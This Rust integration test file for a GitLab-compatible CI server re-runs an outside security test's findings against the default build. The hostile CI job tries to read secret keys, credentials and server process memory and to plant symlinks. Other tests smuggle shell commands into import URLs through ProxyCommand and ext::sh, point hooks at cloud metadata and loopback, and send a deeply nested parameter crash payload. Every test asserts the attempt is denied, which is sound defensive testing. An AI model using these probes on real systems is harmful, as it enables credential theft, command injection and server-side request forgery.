//! The attacks an outside attack test found, each tried again against the default build: a
//! crash by nested parameters, hostile jobs reading and writing what is not theirs, import URLs
//! reaching server paths, requests to the local network, and roles doing what GitLab forbids.

use crate::support::{ROOT_TOKEN, Repo, Server, finished_pipeline, job_log, send, send_raw};
use crate::ui::Browser;
use reqwest::Method;
use serde_json::Value;
use std::os::unix::fs::PermissionsExt;

/// Runs a pipeline on `ref` of `pid` through a trigger token of `token`'s holder, with
/// `vars`; answers the finished pipeline and the log of its first job.
async fn run(s: &Server, token: &str, pid: u64, git_ref: &str, vars: &[(&str, &str)]) -> (Value, String) {
    let (_, trigger) = s.trigger_token(token, pid).await;
    let mut form: Vec<(String, String)> = vec![("token".into(), trigger), ("ref".into(), git_ref.into())];
    form.extend(vars.iter().map(|(k, v)| (format!("variables[{k}]"), v.to_string())));
    let (status, p) = send(
        s.http
            .post(s.api(&format!("/projects/{pid}/trigger/pipeline")))
            .form(&form),
    )
    .await;
    assert_eq!(status, 201, "{p}");
    let id = p["id"].as_u64().unwrap();
    let p = finished_pipeline(s, pid, id).await;
    let (_, jobs) = send(s.root(Method::GET, &format!("/projects/{pid}/pipelines/{id}/jobs"))).await;
    let mut logs = String::new();
    for job in jobs.as_array().unwrap() {
        logs.push_str(&job_log(s, pid, &job["id"]).await);
    }
    (p, logs)
}

/// A project owned by a fresh, unprivileged user, made from `repo` (copied to spur by a push,
/// as a user without server paths would); answers (project id, the user's token).
async fn users_own_project(s: &Server, repo: &Repo, name: &str) -> (u64, String) {
    let (_, token) = s.user(name).await;
    let (status, p) = send(s.as_token(&token, Method::POST, "/projects").form(&[("name", "own")])).await;
    assert_eq!(status, 201, "{p}");
    let url = format!(
        "{}/{name}/own.git",
        s.base.replace("http://", &format!("http://{name}:{token}@"))
    );
    let out = std::process::Command::new("git")
        .args(["push", "-q", &url, "main"])
        .current_dir(repo.path())
        .output()
        .unwrap();
    assert!(out.status.success(), "{}", String::from_utf8_lossy(&out.stderr));
    (p["id"].as_u64().unwrap(), token)
}

#[tokio::test]
async fn thousands_of_nested_brackets_get_400_and_the_server_lives() {
    let s = Server::start();
    let key = format!("a{}", "[b]".repeat(5000));
    for path in ["/projects/1/trigger/pipeline", "/projects", "/projects/1/pipeline"] {
        let resp = s
            .root(Method::POST, path)
            .header("Content-Type", "application/x-www-form-urlencoded")
            .body(format!("{key}=x&token=t&ref=main"))
            .send()
            .await
            .unwrap();
        assert_eq!(resp.status(), 400);
        assert_eq!(resp.text().await.unwrap(), "Bad Request");
    }
    let (status, _) = send(s.root(Method::GET, "/version")).await;
    assert_eq!(status, 200, "the server must still answer");
    // Rack's limit itself still parses.
    let fine = format!("variables{}", "[b]".repeat(99));
    let (status, _) = send(s.root(Method::GET, &format!("/projects?{fine}=x"))).await;
    assert_eq!(status, 200);
}

const HOSTILE: &str = r#"hostile:
  script:
    - |
      try() { if eval "$2" > /dev/null 2>&1; then echo "LEAKED $1"; else echo "DENIED $1"; fi; }
      try key "cat $DATA/secret.key"
      try database "head -c 10 $DATA/spur.redb"
      try repositories "ls $DATA/repositories"
      try logs "ls $DATA/traces"
      try artifacts "ls $DATA/artifacts"
      try credentials "cat $DATA/initial_root_credentials"
      try builds "ls $CI_BUILDS_DIR"
      try spur-environ "cat /proc/$SPUR_PID/environ"
      try spur-root "ls /proc/$SPUR_PID/root/"
      try spur-key-via-proc "cat /proc/$SPUR_PID/root$DATA/secret.key"
      try spur-fd "ls /proc/$SPUR_PID/fd"
      try spur-mem "head -c 1 /proc/$SPUR_PID/mem"
      try signal "kill -0 $SPUR_PID"
      try stop "kill -STOP $SPUR_PID"
      try write-etc "touch /etc/spur-was-here"
      try write-usr "touch /usr/spur-was-here"
      try write-tmp "touch /tmp/spur-job-was-here"
      try write-outside "touch $OUTSIDE/written"
      try write-builds "touch $CI_BUILDS_DIR/planted"
      try hard-link "ln $DATA/secret.key hard"
      try overwrite-script "echo 'echo PWNED' > $HOME/../scripts/after_script.sh"
      try plant-script-link "rm -f $HOME/../scripts/after_script.sh && ln -s $OUTSIDE/pwned $HOME/../scripts/after_script.sh"
      try replace-scripts-dir "mv $HOME/../scripts $HOME/../old"
      try mirror-objects "cat .git/objects/info/alternates"
      try shared-objects '(for f in $(find .git/objects -type f); do chmod u+w $f && echo x >> $f && exit 0; done; exit 1)'
      printf '%s%s' "$SECRET_A" "$SECRET_B" > "$TMPDIR/pattern"
      if grep -q -F -f "$TMPDIR/pattern" /proc/[0-9]*/environ 2>/dev/null; then echo "LEAKED secret-in-environ"; else echo "DENIED secret-in-environ"; fi
      if grep -q -F -f "$TMPDIR/pattern" /proc/[0-9]*/cmdline 2>/dev/null; then echo "LEAKED secret-in-cmdline"; else echo "DENIED secret-in-cmdline"; fi
      ln -sfn $DATA/secret.key leak-key
      ln -sfn $DATA/repositories leak-repos
      mkdir -p sub && ln -sfn $OUTSIDE sub/out
      echo ordinary work still works: $(git log --oneline -1 | wc -l) $(echo hi | sha256sum | cut -c1-8) > proof.txt
      cat proof.txt
  after_script:
    - echo after script ran as written
  cache:
    key: shared
    paths: [leak-key, leak-repos, sub]
  artifacts:
    paths: [leak-key, leak-repos, proof.txt, sub]
reader:
  stage: test
  needs: [hostile]
  script:
    - if [ -e leak-key ] && cat leak-key > /dev/null 2>&1; then echo "LEAKED cached-key"; else echo "DENIED cached-key"; fi
    - if ls leak-repos/ > /dev/null 2>&1; then echo "LEAKED cached-repos"; else echo "DENIED cached-repos"; fi
    - if ls sub/out/ > /dev/null 2>&1; then echo "LEAKED cached-outside"; else echo "DENIED cached-outside"; fi
    - cat proof.txt
  cache:
    key: shared
    paths: [leak-key]
    policy: pull
"#;

#[tokio::test]
async fn a_hostile_job_with_default_settings_gets_nothing() {
    let outside = tempfile::tempdir().unwrap();
    std::fs::set_permissions(outside.path(), std::fs::Permissions::from_mode(0o777)).unwrap();
    let s = Server::start_with(&["--concurrent", "1"]);
    let repo = Repo::with_files(&[(".gitlab-ci.yml", HOSTILE)]);
    let (pid, token) = users_own_project(&s, &repo, "mallory").await;
    let data = s.data_dir.canonicalize().unwrap();
    let (p, log) = run(
        &s,
        &token,
        pid,
        "main",
        &[
            ("DATA", data.to_str().unwrap()),
            ("SPUR_PID", &s.pid().to_string()),
            ("OUTSIDE", outside.path().to_str().unwrap()),
            ("SECRET_A", &ROOT_TOKEN[..10]),
            ("SECRET_B", &ROOT_TOKEN[10..]),
        ],
    )
    .await;
    assert_eq!(p["status"], "success", "{log}");
    assert!(
        !log.lines().any(|l| l.starts_with("LEAKED")),
        "a hostile job got through:\n{log}"
    );
    let denied = log.lines().filter(|l| l.starts_with("DENIED")).count();
    assert_eq!(denied, 30, "every attempt must have run and been denied:\n{log}");
    assert!(log.contains("ordinary work still works: 1"), "{log}");
    assert!(
        log.contains("after script ran as written") && !log.contains("PWNED"),
        "{log}"
    );
    assert_eq!(
        log.matches("ordinary work still works").count(),
        2,
        "artifacts reach the next job:\n{log}"
    );
    for planted in ["written", "pwned"] {
        assert!(!outside.path().join(planted).exists(), "{planted} was written outside");
    }
    assert!(!std::path::Path::new("/etc/spur-was-here").exists());
    let (status, _) = send(s.root(Method::GET, "/version")).await;
    assert_eq!(status, 200, "spur must be alive and unstopped");
}

#[tokio::test]
async fn concurrent_jobs_cannot_read_each_others_environment_or_workspace() {
    // Only the holder's environment holds the marker whole; the reader builds it in a file.
    let config = r#"holder:
  variables:
    HELD: "${A}${B}"
  script:
    - printf '%s%s' "$A" "$B" > "$TMPDIR/p"
    - if grep -q -F -f "$TMPDIR/p" /proc/self/environ; then echo control-own-environ-readable; fi
    - sleep 6
reader:
  script:
    - sleep 2
    - printf '%s%s' "$A" "$B" > "$TMPDIR/p"
    - for f in /proc/[0-9]*/environ; do if grep -q -F -f "$TMPDIR/p" "$f" 2>/dev/null; then echo "LEAKED environ $f"; fi; done
    - for d in $CI_BUILDS_DIR/*; do if [ "$d" != "$CI_PROJECT_DIR" ] && ls "$d" > /dev/null 2>&1; then echo "LEAKED workspace $d"; fi; done
    - echo reader done
"#;
    let s = Server::start_with(&["--concurrent", "2"]);
    let repo = Repo::with_files(&[(".gitlab-ci.yml", config)]);
    let pid = s.project("demo", repo.path()).await;
    let (_, token) = s.trigger_token(ROOT_TOKEN, pid).await;
    let (status, p) = send(s.http.post(s.api(&format!("/projects/{pid}/trigger/pipeline"))).form(&[
        ("token", token.as_str()),
        ("ref", "main"),
        ("variables[A]", "secret-marker-"),
        ("variables[B]", "0xA5A5"),
    ]))
    .await;
    assert_eq!(status, 201, "{p}");
    let id = p["id"].as_u64().unwrap();
    let p = finished_pipeline(&s, pid, id).await;
    let (_, jobs) = send(s.root(Method::GET, &format!("/projects/{pid}/pipelines/{id}/jobs"))).await;
    let reader = jobs.as_array().unwrap().iter().find(|j| j["name"] == "reader").unwrap();
    let log = job_log(&s, pid, &reader["id"]).await;
    assert_eq!(p["status"], "success", "{log}");
    assert!(
        log.contains("reader done") && !log.lines().any(|l| l.starts_with("LEAKED")),
        "{log}"
    );
    let holder = jobs.as_array().unwrap().iter().find(|j| j["name"] == "holder").unwrap();
    let log = job_log(&s, pid, &holder["id"]).await;
    assert!(
        log.contains("control-own-environ-readable"),
        "the probe must be able to see: {log}"
    );
}

#[tokio::test]
async fn import_urls_never_reach_server_paths_or_options() {
    let s = Server::start();
    let planted = tempfile::tempdir().unwrap();
    let pwned = planted.path().join("pwned");
    let repo = Repo::new();
    let victim = s.project("victim", repo.path()).await;
    let (_, stranger) = s.user("stranger").await;
    let data = s.data_dir.canonicalize().unwrap();
    let hostile = [
        format!("../../..//x@y/../../{}/repositories/a.git", data.display()),
        format!("-oProxyCommand=touch {}", pwned.display()),
        format!("ssh://-oProxyCommand=touch%20{}/x", pwned.display()),
        format!("git@-oProxyCommand=touch {}:x", pwned.display()),
        "ext::sh -c touch% /tmp/spur-pwned".into(),
        format!("file://{}", repo.path().display()),
        repo.path().display().to_string(),
    ];
    for url in &hostile {
        let (status, body) = send(
            s.as_token(&stranger, Method::POST, "/projects")
                .form(&[("name", "steal"), ("import_url", url.as_str())]),
        )
        .await;
        assert_eq!(status, 400, "{url}: {body}");
        assert!(
            body["message"]["import_url"][0].as_str().unwrap().starts_with("is"),
            "{body}"
        );
    }
    assert!(!pwned.exists());
    // Administrators may import server paths, but never spur's own data dir.
    let (status, body) = send(s.root(Method::POST, "/projects").form(&[
        ("name", "own-data"),
        ("import_url", &format!("{}/repositories", data.display())),
    ]))
    .await;
    assert_eq!(status, 400, "{body}");
    let (status, p) = send(s.root(Method::GET, &format!("/projects/{victim}"))).await;
    assert_eq!(status, 200, "{p}");
}

#[tokio::test]
async fn local_imports_can_be_narrowed_to_listed_folders() {
    let allowed = tempfile::tempdir().unwrap();
    let s = Server::start_with(&[
        "--concurrent",
        "0",
        "--import-path-dir",
        allowed.path().to_str().unwrap(),
    ]);
    let inside = allowed.path().join("repo");
    std::fs::create_dir_all(&inside).unwrap();
    let repo = Repo::new();
    let out = std::process::Command::new("git")
        .args(["clone", "-q", repo.path().to_str().unwrap(), inside.to_str().unwrap()])
        .output()
        .unwrap();
    assert!(out.status.success());
    let (status, body) = send(
        s.root(Method::POST, "/projects")
            .form(&[("name", "in"), ("import_url", inside.to_str().unwrap())]),
    )
    .await;
    assert_eq!(status, 201, "{body}");
    let (status, body) = send(
        s.root(Method::POST, "/projects")
            .form(&[("name", "out"), ("import_url", repo.path().to_str().unwrap())]),
    )
    .await;
    assert_eq!(status, 400, "{body}");
}

/// A tiny HTTP receiver on loopback that counts the requests it gets.
fn receiver() -> (u16, std::sync::Arc<std::sync::atomic::AtomicUsize>) {
    let listener = std::net::TcpListener::bind("127.0.0.1:0").unwrap();
    let port = listener.local_addr().unwrap().port();
    let hits = std::sync::Arc::new(std::sync::atomic::AtomicUsize::new(0));
    let h = hits.clone();
    std::thread::spawn(move || {
        for stream in listener.incoming().flatten() {
            h.fetch_add(1, std::sync::atomic::Ordering::SeqCst);
            use std::io::{Read, Write};
            let mut stream = stream;
            let mut buf = [0u8; 4096];
            let _ = stream.read(&mut buf);
            let _ = stream.write_all(b"HTTP/1.1 200 OK\r\nContent-Length: 0\r\nConnection: close\r\n\r\n");
        }
    });
    (port, hits)
}

#[tokio::test]
async fn requests_to_the_local_network_are_blocked_until_an_admin_allows_them() {
    let s = Server::start_with(&["--concurrent", "1"]);
    let (port, hits) = receiver();
    let repo = Repo::with_files(&[(".gitlab-ci.yml", "a:\n  script: echo hi\n")]);
    let pid = s.project("demo", repo.path()).await;
    for url in [
        format!("http://127.0.0.1:{port}/hook"),
        format!("http://localhost:{port}/hook"),
        format!("http://[::ffff:127.0.0.1]:{port}/hook"),
        "http://10.0.0.1/hook".into(),
        "http://169.254.169.254/latest/meta-data".into(),
        "http://[fd00::1]/hook".into(),
    ] {
        let (status, body) = send(
            s.root(Method::POST, &format!("/projects/{pid}/hooks"))
                .form(&[("url", url.as_str()), ("pipeline_events", "true")]),
        )
        .await;
        assert_eq!(status, 422, "{url}: {body}");
        assert_eq!(body["error"], "Invalid url given");
    }
    // Mirrors: the same rule, with credentials or not.
    let (status, body) = send(s.root(Method::POST, "/projects").form(&[
        ("name", "mirror"),
        ("import_url", &format!("http://user:secret@127.0.0.1:{port}/x.git")),
    ]))
    .await;
    assert_eq!(status, 400, "{body}");
    assert!(
        body["message"]["import_url"][0].as_str().unwrap().contains("loopback"),
        "{body}"
    );
    let (status, body) = send(s.root(Method::POST, "/projects").form(&[
        ("name", "mirror2"),
        ("import_url", &format!("git://localhost:{port}/x.git")),
    ]))
    .await;
    assert_eq!(status, 400, "{body}");
    assert_eq!(
        hits.load(std::sync::atomic::Ordering::SeqCst),
        0,
        "nothing may reach the receiver"
    );
    // Only administrators see and change the settings.
    let (_, dev) = s.user("dev").await;
    let (status, _) = send(s.as_token(&dev, Method::GET, "/application/settings")).await;
    assert_eq!(status, 403);
    let (status, _) = send(
        s.anon(Method::PUT, "/application/settings")
            .form(&[("allow_local_requests_from_web_hooks_and_services", "true")]),
    )
    .await;
    assert_eq!(status, 401);
    let (status, settings) = send(s.root(Method::GET, "/application/settings")).await;
    assert_eq!(status, 200);
    assert_eq!(settings["allow_local_requests_from_web_hooks_and_services"], false);
    let (status, body) = send(
        s.root(Method::PUT, "/application/settings")
            .form(&[("outbound_local_requests_allowlist_raw", "not a host!")]),
    )
    .await;
    assert_eq!(status, 400, "{body}");
    // An allow-list entry admits that one address and port.
    let (status, settings) = send(
        s.root(Method::PUT, "/application/settings")
            .form(&[("outbound_local_requests_allowlist_raw", format!("127.0.0.1:{port}"))]),
    )
    .await;
    assert_eq!(status, 200, "{settings}");
    assert_eq!(
        settings["outbound_local_requests_whitelist"][0],
        format!("127.0.0.1:{port}")
    );
    let (status, body) = send(s.root(Method::POST, &format!("/projects/{pid}/hooks")).form(&[
        ("url", format!("http://127.0.0.1:{port}/hook").as_str()),
        ("pipeline_events", "true"),
    ]))
    .await;
    assert_eq!(status, 201, "{body}");
    let (status, body) = send(
        s.root(Method::POST, &format!("/projects/{pid}/hooks"))
            .form(&[("url", "http://127.0.0.1:1/other"), ("pipeline_events", "true")]),
    )
    .await;
    assert_eq!(status, 422, "{body}");
    let (_, p) = send(
        s.root(Method::POST, &format!("/projects/{pid}/pipeline"))
            .form(&[("ref", "main")]),
    )
    .await;
    finished_pipeline(&s, pid, p["id"].as_u64().unwrap()).await;
    let start = std::time::Instant::now();
    while hits.load(std::sync::atomic::Ordering::SeqCst) == 0 {
        assert!(
            start.elapsed() < std::time::Duration::from_secs(20),
            "the allowed hook never arrived"
        );
        tokio::time::sleep(std::time::Duration::from_millis(50)).await;
    }
    // Taking the entry away blocks the stored hook at its next delivery.
    let (status, _) = send(
        s.root(Method::PUT, "/application/settings")
            .form(&[("outbound_local_requests_allowlist_raw", "")]),
    )
    .await;
    assert_eq!(status, 200);
    let before = hits.load(std::sync::atomic::Ordering::SeqCst);
    let (_, p) = send(
        s.root(Method::POST, &format!("/projects/{pid}/pipeline"))
            .form(&[("ref", "main")]),
    )
    .await;
    finished_pipeline(&s, pid, p["id"].as_u64().unwrap()).await;
    tokio::time::sleep(std::time::Duration::from_secs(1)).await;
    assert_eq!(hits.load(std::sync::atomic::Ordering::SeqCst), before);
    assert!(s.log_text().contains("a webhook delivery was blocked"));
}

/// A project with a protected `main` and an unprotected `feature/x`, a Developer member, and one
/// pipeline with a manual job on each ref, created by root with a variable.
async fn protected_setup(s: &Server) -> (u64, String, u64, u64, u64) {
    let repo = Repo::new();
    std::fs::write(
        repo.path().join(".gitlab-ci.yml"),
        "build:\n  script: exit 1\ndeploy:\n  script: echo deploy\n  when: manual\n",
    )
    .unwrap();
    for args in [
        vec!["add", "."],
        vec!["commit", "-qm", "manual"],
        vec!["branch", "-f", "feature/x"],
    ] {
        assert!(
            std::process::Command::new("git")
                .args(&args)
                .current_dir(repo.path())
                .status()
                .unwrap()
                .success()
        );
    }
    let pid = s.project("guarded", repo.path()).await;
    // `main` only Maintainers may push or merge to.
    let (status, _) = send(s.root(Method::DELETE, &format!("/projects/{pid}/protected_branches/main"))).await;
    assert_eq!(status, 204);
    let (status, body) = send(
        s.root(Method::POST, &format!("/projects/{pid}/protected_branches"))
            .form(&[
                ("name", "main"),
                ("push_access_level", "40"),
                ("merge_access_level", "40"),
            ]),
    )
    .await;
    assert_eq!(status, 201, "{body}");
    let (dev_id, dev) = s.user("developer").await;
    s.add_member(pid, dev_id, 30).await;
    let mut ids = Vec::new();
    for r in ["main", "feature/x"] {
        let (status, p) = send(s.root(Method::POST, &format!("/projects/{pid}/pipeline")).form(&[
            ("ref", r),
            ("variables[][key]", "SECRET_VAR"),
            ("variables[][value]", "hush"),
        ]))
        .await;
        assert_eq!(status, 201, "{p}");
        ids.push(p["id"].as_u64().unwrap());
    }
    // the Developer's own pipeline on the unprotected branch
    let (status, p) = send(
        s.as_token(&dev, Method::POST, &format!("/projects/{pid}/pipeline"))
            .form(&[("ref", "feature/x")]),
    )
    .await;
    assert_eq!(status, 201, "{p}");
    (pid, dev, ids[0], ids[1], p["id"].as_u64().unwrap())
}

#[tokio::test]
async fn protected_refs_guard_play_retry_cancel_and_pipeline_variables() {
    let s = Server::start();
    let (pid, dev, on_main, on_feature, devs_own) = protected_setup(&s).await;
    let job_of = |pipeline: u64, name: &'static str| {
        let s = &s;
        async move {
            let (_, jobs) = send(s.root(Method::GET, &format!("/projects/{pid}/pipelines/{pipeline}/jobs"))).await;
            jobs.as_array().unwrap().iter().find(|j| j["name"] == name).unwrap()["id"]
                .as_u64()
                .unwrap()
        }
    };
    let main_deploy = job_of(on_main, "deploy").await;
    let main_build = job_of(on_main, "build").await;
    for (method, path) in [
        (Method::POST, format!("/projects/{pid}/jobs/{main_deploy}/play")),
        (Method::POST, format!("/projects/{pid}/jobs/{main_build}/retry")),
        (Method::POST, format!("/projects/{pid}/jobs/{main_build}/cancel")),
        (Method::POST, format!("/projects/{pid}/pipelines/{on_main}/retry")),
        (Method::POST, format!("/projects/{pid}/pipelines/{on_main}/cancel")),
        (Method::GET, format!("/projects/{pid}/pipelines/{on_main}/variables")),
        (Method::GET, format!("/projects/{pid}/pipelines/{on_feature}/variables")),
    ] {
        let (status, body) = send(s.as_token(&dev, method.clone(), &path)).await;
        assert_eq!(status, 403, "{method} {path}: {body}");
    }
    let (_, p) = send(s.root(Method::GET, &format!("/projects/{pid}/pipelines/{on_main}"))).await;
    assert_eq!(p["status"], "pending", "nothing changed: {p}");
    // On the unprotected branch the Developer acts; their own pipeline's variables are theirs.
    let feature_deploy = job_of(on_feature, "deploy").await;
    let (status, body) = send(s.as_token(
        &dev,
        Method::POST,
        &format!("/projects/{pid}/jobs/{feature_deploy}/play"),
    ))
    .await;
    assert_eq!(status, 200, "{body}");
    let (status, body) = send(s.as_token(
        &dev,
        Method::GET,
        &format!("/projects/{pid}/pipelines/{devs_own}/variables"),
    ))
    .await;
    assert_eq!(status, 200, "{body}");
    let (status, vars) = send(s.root(Method::GET, &format!("/projects/{pid}/pipelines/{on_main}/variables"))).await;
    assert_eq!(status, 200);
    assert_eq!(vars[0]["value"], "hush");
}

#[tokio::test]
async fn only_owners_change_a_projects_visibility() {
    let s = Server::start();
    let repo = Repo::new();
    let pid = s.project("private-one", repo.path()).await;
    let (mid, maintainer) = s.user("maint").await;
    s.add_member(pid, mid, 40).await;
    for field in ["visibility", "visibility_level"] {
        let value = if field == "visibility" { "public" } else { "20" };
        let (status, body) = send(
            s.as_token(&maintainer, Method::PUT, &format!("/projects/{pid}"))
                .form(&[(field, value), ("description", "x")]),
        )
        .await;
        assert_eq!(status, 403, "{body}");
    }
    let (_, p) = send(s.root(Method::GET, &format!("/projects/{pid}"))).await;
    assert_eq!(p["visibility"], "private");
    assert_ne!(p["description"], "x", "the whole update is refused");
    let (status, _) = send(
        s.as_token(&maintainer, Method::PUT, &format!("/projects/{pid}"))
            .form(&[("description", "y")]),
    )
    .await;
    assert_eq!(status, 200);
    let (status, p) = send(
        s.root(Method::PUT, &format!("/projects/{pid}"))
            .form(&[("visibility", "internal")]),
    )
    .await;
    assert_eq!(status, 200);
    assert_eq!(p["visibility"], "internal");
}

#[tokio::test]
async fn the_data_dir_is_private_and_secrets_stay_off_disk_and_command_lines() {
    let s = Server::start();
    let mode = |p: &std::path::Path| std::fs::metadata(p).unwrap().permissions().mode() & 0o777;
    // A root spur lets job users pass through its data dir to builds/; nobody else gets in.
    assert!(matches!(mode(&s.data_dir), 0o700 | 0o711), "{:o}", mode(&s.data_dir));
    for file in ["spur.redb", "secret.key"] {
        assert_eq!(mode(&s.data_dir.join(file)), 0o600, "{file}");
    }
    for dir in ["repositories", "traces", "artifacts"] {
        assert_eq!(mode(&s.data_dir.join(dir)), 0o700, "{dir}");
    }
    assert!(
        !s.data_dir.join("initial_root_credentials").exists(),
        "credentials given through the environment are never written down"
    );
    let cmdline = std::fs::read(format!("/proc/{}/cmdline", s.pid())).unwrap();
    assert!(!String::from_utf8_lossy(&cmdline).contains(ROOT_TOKEN));
    // Old flags that put secrets on the command line are gone.
    let dir = tempfile::tempdir().unwrap();
    let err = crate::support::spawn(&dir.path().join("d"), &["--root-password", "x"])
        .err()
        .unwrap();
    assert!(err.contains("--root-password"), "{err}");
}

#[tokio::test]
async fn generated_root_credentials_are_written_once_and_expire_after_a_day() {
    let dir = tempfile::tempdir().unwrap();
    let data = dir.path().join("d");
    let mut child = std::process::Command::new(env!("CARGO_BIN_EXE_spur"))
        .args(["serve", "--listen", "127.0.0.1:0", "--concurrent", "0", "--data-dir"])
        .arg(&data)
        .env_remove("SPUR_ROOT_TOKEN")
        .env_remove("SPUR_ROOT_PASSWORD")
        .stderr(std::process::Stdio::null())
        .spawn()
        .unwrap();
    let file = data.join("initial_root_credentials");
    let text = crate::support::wait_file(&file).await;
    let _ = child.kill();
    let _ = child.wait();
    assert!(
        text.contains("password: ") && text.contains("personal_access_token: glpat-"),
        "{text}"
    );
    assert_eq!(std::fs::metadata(&file).unwrap().permissions().mode() & 0o777, 0o600);
    // A day later the next start deletes it.
    let old = std::time::SystemTime::now() - std::time::Duration::from_secs(25 * 3600);
    std::fs::File::options()
        .write(true)
        .open(&file)
        .unwrap()
        .set_modified(old)
        .unwrap();
    let s = Server::start_on(&data, &["--concurrent", "0"]);
    assert!(!file.exists(), "{}", s.log_text());
}

#[tokio::test]
async fn root_signs_in_at_once_on_a_first_start_and_after_one_cut_short() {
    // Root's password is hashed while the first start already answers: signing in at once
    // waits for it.
    let dir = tempfile::tempdir().unwrap();
    let data = dir.path().join("d");
    let generated = [("SPUR_ROOT_PASSWORD", ""), ("SPUR_ROOT_TOKEN", "")];
    let mut s = Server::start_on_with_env(&data, &["--concurrent", "0"], &generated);
    let text = std::fs::read_to_string(data.join("initial_root_credentials")).unwrap();
    let password = text
        .lines()
        .find_map(|l| l.strip_prefix("password: "))
        .unwrap()
        .to_string();
    let (status, _) = Browser::new(&s).sign_in("root", &password).await;
    assert_eq!(status, 302, "{}", s.log_text());
    let (status, _) = Browser::new(&s).sign_in("root", "not-the-password").await;
    assert_eq!(status, 200, "a wrong password is refused");
    assert!(s.terminate(std::time::Duration::from_secs(10)));
    // A password changed right after a first start stays changed: the background hash only
    // replaces the marker.
    let fresh = dir.path().join("fresh");
    let s2 = Server::start_on_with_env(&fresh, &["--concurrent", "0"], &generated);
    let text = std::fs::read_to_string(fresh.join("initial_root_credentials")).unwrap();
    let token = text
        .lines()
        .find_map(|l| l.strip_prefix("personal_access_token: "))
        .unwrap()
        .to_string();
    let (status, _) = send(
        s2.as_token(&token, Method::PUT, "/users/1")
            .form(&[("password", "changed-password-1")]),
    )
    .await;
    assert_eq!(status, 200);
    tokio::time::sleep(std::time::Duration::from_millis(500)).await;
    let (status, _) = Browser::new(&s2).sign_in("root", "changed-password-1").await;
    assert_eq!(status, 302, "{}", s2.log_text());
    drop(s2);
    // A first start stopped before the hash was stored: the next start hashes the password
    // again, from the credentials file or from the environment.
    let db = data.join("spur.redb");
    let cut_short = move || {
        let store = spur::storage::Store::open(&db).unwrap();
        let root = store.user_by_username("root").unwrap().unwrap();
        let rt = tokio::runtime::Builder::new_current_thread().build().unwrap();
        // `auth::PASSWORD_BEING_SET`, as stored
        rt.block_on(store.update_user(root.id, None, None, Some("!being-set".into())))
            .unwrap()
            .unwrap();
        assert!(store.close());
    };
    std::thread::spawn(cut_short.clone()).join().unwrap();
    let mut s = Server::start_on_with_env(&data, &["--concurrent", "0"], &generated);
    let (status, _) = Browser::new(&s).sign_in("root", &password).await;
    assert_eq!(status, 302, "{}", s.log_text());
    assert!(s.terminate(std::time::Duration::from_secs(10)));
    std::thread::spawn(cut_short.clone()).join().unwrap();
    let given = [("SPUR_ROOT_PASSWORD", "given-password-1"), ("SPUR_ROOT_TOKEN", "")];
    let mut s = Server::start_on_with_env(&data, &["--concurrent", "0"], &given);
    let (status, _) = Browser::new(&s).sign_in("root", "given-password-1").await;
    assert_eq!(status, 302, "{}", s.log_text());
    assert!(s.terminate(std::time::Duration::from_secs(10)));
    // With no password to hash again, root has none, and sign-in fails at once (it never
    // waits for a hash nobody computes).
    std::thread::spawn(cut_short.clone()).join().unwrap();
    std::fs::remove_file(data.join("initial_root_credentials")).unwrap();
    let s = Server::start_on_with_env(&data, &["--concurrent", "0"], &generated);
    let started = std::time::Instant::now();
    let (status, _) = Browser::new(&s).sign_in("root", &password).await;
    assert_eq!(status, 200);
    assert!(started.elapsed() < std::time::Duration::from_secs(2), "sign-in waited");
    assert!(s.log_text().contains("root has no password"));
}

#[tokio::test]
async fn blocking_ends_browser_sessions_and_pages_carry_security_headers() {
    let s = Server::start();
    let (uid, _) = s.user("blocked-one").await;
    let page = s.http.get(format!("{}/users/sign_in", s.base)).send().await.unwrap();
    for header in ["x-frame-options", "x-content-type-options", "content-security-policy"] {
        assert!(page.headers().contains_key(header), "{header} missing");
    }
    let mut b = Browser::new(&s);
    let (status, _) = b.sign_in("blocked-one", "password123").await;
    assert_eq!(status, 302);
    let (status, _, _) = b.get("/").await;
    assert_eq!(status, 200);
    for action in ["block", "unblock"] {
        let (status, _) = send(s.root(Method::POST, &format!("/users/{uid}/{action}"))).await;
        assert_eq!(status, 201);
    }
    let (status, _, location) = b.get("/").await;
    assert_eq!(
        (status, location.as_deref()),
        (302, Some("/users/sign_in")),
        "the session must have ended with the block"
    );
}

#[tokio::test]
async fn the_ui_refuses_job_actions_on_protected_refs_too() {
    let s = Server::start();
    let (pid, _, on_main, _, _) = protected_setup(&s).await;
    let (_, jobs) = send(s.root(Method::GET, &format!("/projects/{pid}/pipelines/{on_main}/jobs"))).await;
    let deploy = jobs.as_array().unwrap().iter().find(|j| j["name"] == "deploy").unwrap()["id"]
        .as_u64()
        .unwrap();
    let mut b = Browser::new(&s);
    b.sign_in("developer", "password123").await;
    let (_, page, _) = b.get(&format!("/root/guarded/-/pipelines/{on_main}")).await;
    let csrf = crate::ui::csrf_of(&page);
    for path in [
        format!("/root/guarded/-/jobs/{deploy}/play"),
        format!("/root/guarded/-/pipelines/{on_main}/cancel"),
        format!("/root/guarded/-/pipelines/{on_main}/retry"),
    ] {
        let (status, body, _, _) = b.post(&path, &[("authenticity_token", csrf.as_str())]).await;
        assert_eq!(status, 403, "{path}: {body}");
    }
    let (_, job) = send(s.root(Method::GET, &format!("/projects/{pid}/jobs/{deploy}"))).await;
    assert_eq!(job["status"], "manual");
}

#[tokio::test]
async fn sign_in_takes_as_long_for_unknown_users_as_for_known_ones() {
    let s = Server::start_with(&["--concurrent", "0", "--sign-in-rate-limit", "0"]);
    s.user("known").await;
    let mut b = Browser::new(&s);
    let (mut known, mut unknown) = (Vec::new(), Vec::new());
    for _ in 0..7 {
        for (login, into) in [("known", &mut known), ("nobody-by-this-name", &mut unknown)] {
            let start = std::time::Instant::now();
            let (status, _) = b.sign_in(login, "wrong-password").await;
            assert_eq!(status, 200);
            into.push(start.elapsed());
        }
    }
    known.sort();
    unknown.sort();
    // Before the fix an unknown user was answered ~10 times faster (no password hash ran).
    assert!(
        unknown[3] * 3 > known[3],
        "unknown {:?} vs known {:?}",
        unknown[3],
        known[3]
    );
}

#[tokio::test]
async fn an_overlong_ref_is_not_found_and_cache_policy_pull_writes_no_cache() {
    let s = Server::start_with(&["--concurrent", "1"]);
    let config =
        "pull-only:\n  script: mkdir -p c && echo x > c/f\n  cache:\n    key: k\n    paths: [c]\n    policy: pull\n";
    let repo = Repo::with_files(&[(".gitlab-ci.yml", config)]);
    let pid = s.project("demo", repo.path()).await;
    let long = "x".repeat(5000);
    let (status, body) = send(
        s.root(Method::POST, &format!("/projects/{pid}/pipeline"))
            .form(&[("ref", long.as_str())]),
    )
    .await;
    assert_eq!(status, 400, "{body}");
